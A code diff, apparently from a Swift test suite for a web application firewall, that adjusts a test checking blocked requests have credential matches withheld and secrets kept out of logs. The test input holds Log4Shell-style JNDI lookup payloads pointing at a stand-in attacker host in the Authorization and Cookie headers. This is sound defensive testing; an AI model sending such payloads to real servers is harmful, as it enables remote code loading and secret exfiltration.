@@ -50,8 +50,10 @@ struct WafLoggingTests {
             headers: [("Authorization", "Bearer ${jndi:ldap://attacker.test/\(secret)}"), ("Cookie", "sid=${jndi:ldap://attacker.test/\(secret)}")]
         ))
         #expect(verdict.blocked)
-        let credentialMatches = verdict.matches.filter { $0.target == "header:authorization" || $0.target.hasPrefix("cookie:") }
-        #expect(credentialMatches.count >= 2)
+        // Which of the two the shipped rules match may change with the rules; every match in
+        // either must be withheld, and the secret must appear in no log line.
+        let credentialMatches = verdict.matches.filter { $0.target == "header:authorization" || $0.target == "header:cookie" || $0.target.hasPrefix("cookie:") }
+        #expect(!credentialMatches.isEmpty)
         #expect(credentialMatches.allSatisfy { $0.fragment == WAFMatch.withheld })
         verdict.log(to: logger, requestID: "req-2", tenant: "acme", clientIP: nil)
         let logged = recorder.lines.withLock { $0 }.map { "\($0.message) \($0.metadata)" }.joined(separator: "\n")
